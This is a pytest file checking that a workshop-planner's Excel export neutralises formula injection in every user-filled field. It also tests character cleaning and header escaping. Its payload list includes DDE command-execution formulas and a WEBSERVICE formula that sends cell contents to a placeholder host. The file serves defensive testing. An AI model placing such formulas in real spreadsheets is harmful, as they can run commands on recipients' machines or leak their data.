"""Text that would run, break the file or fool the reader comes out as text, in every field that people fill in."""

import dataclasses
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.packs import choice, country, pack
from workshopplanner.core.exports import Pack
from workshopplanner.exchange.workbook import write_workbook
from workshopplanner.exchange.workbook.text import clean, looks_like_formula

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org","Click")',
    "=WEBSERVICE(CONCATENATE('http://example.org/',A1))",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=1+1\x00",
    "{=1+1}",
    "#REF!",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_field_makes_a_formula(payload: str, tmp_path: Path) -> None:
    path = write_workbook(tmp_path / "book.xlsx", _poisoned(payload), choice())
    with zipfile.ZipFile(path) as archive:
        sheets = "".join(archive.read(name).decode() for name in archive.namelist() if "worksheets" in name)
    assert not re.search(r"<f[ >/]", sheets)
    book = load_workbook(path)
    cells = [cell for sheet in book for row in sheet for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n", "d"}
    alone = [cell for cell in cells if cell.value == clean(payload)]
    assert len(alone) > 15
    assert all(cell.quotePrefix and cell.number_format == "@" for cell in alone) == looks_like_formula(clean(payload))


def _poisoned(payload: str) -> Pack:
    """Return a pack in which every text that people write is the payload."""
    facts = pack(countries=(country(name=payload),))
    whole: Pack = _all_texts(facts, payload, without=("language",))
    return dataclasses.replace(
        whole,
        workshop=_all_texts(facts.workshop, payload, without=("time_zone",)),
        agenda=dataclasses.replace(
            facts.agenda,
            days=tuple(_all_texts(day, payload) for day in facts.agenda.days),
            rooms=tuple(_all_texts(room, payload) for room in facts.agenda.rooms),
            cards=tuple(
                dataclasses.replace(
                    _all_texts(card, payload, without=("type", "status")),
                    rooms=tuple(_all_texts(room, payload) for room in card.rooms),
                    people=tuple(_all_texts(person, payload, without=("function",)) for person in card.people),
                )
                for card in facts.agenda.cards
            ),
        ),
        themes=tuple(_all_texts(theme, payload) for theme in facts.themes),
        attendees=tuple(
            _all_texts(one, payload, without=("gender", "age_band", "sector", "role", "status"))
            for one in facts.attendees
        ),
        countries=tuple(_all_texts(one, payload, without=("status",)) for one in facts.countries),
    )


def _all_texts(row: Any, payload: str, without: tuple[str, ...] = ()) -> Any:
    """Return the row with the payload in each field that holds a text."""
    texts = {
        field.name: payload
        for field in dataclasses.fields(row)
        if isinstance(getattr(row, field.name), str) and field.name not in without
    }
    return dataclasses.replace(row, **texts)


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a\x00b\x07c\x1b", "abc"),
        ("half \ud83d of a character", "half \ufffd of a character"),
        ("\ufffe\uffff", ""),
        ("one\r\ntwo\rthree", "one\ntwo\nthree"),
        ("_x0041_ is not A", "_x005F_x0041_ is not A"),
        ("한국 🙂 é &<>\"'", "한국 🙂 é &<>\"'"),
        ("zero\u200dwidth", "zero\u200dwidth"),
    ],
)
def test_what_a_cell_cannot_hold_is_taken_out(text: str, kept: str, tmp_path: Path) -> None:
    assert clean(text) == kept
    facts = pack()
    facts = dataclasses.replace(facts, attendees=(dataclasses.replace(facts.attendees[0], organisation=text),))
    book = load_workbook(write_workbook(tmp_path / "book.xlsx", facts, choice()))
    heads = [cell.value for cell in book["People"][1]]
    assert (book["People"].cell(2, heads.index("Organisation") + 1).value or "") == kept


def test_white_space_at_the_ends_survives(tmp_path: Path) -> None:
    facts = pack()
    facts = dataclasses.replace(facts, attendees=(dataclasses.replace(facts.attendees[0], organisation="  two \n"),))
    book = load_workbook(write_workbook(tmp_path / "book.xlsx", facts, choice()))
    heads = [cell.value for cell in book["People"][1]]
    assert book["People"].cell(2, heads.index("Organisation") + 1).value == "  two \n"


def test_titles_with_codes_of_headers_stay_text(tmp_path: Path) -> None:
    facts = pack()
    facts = dataclasses.replace(facts, workshop=dataclasses.replace(facts.workshop, title="Q&A &P " + "x&" * 300))
    book = load_workbook(write_workbook(tmp_path / "book.xlsx", facts, choice()))
    parts: Any = book["Sessions"].oddHeader
    header = parts.left.text
    assert header.startswith("Q&&A &&P x&&x&&")
    assert len(header) <= 230
    assert header.replace("&&", "").count("&") == 0
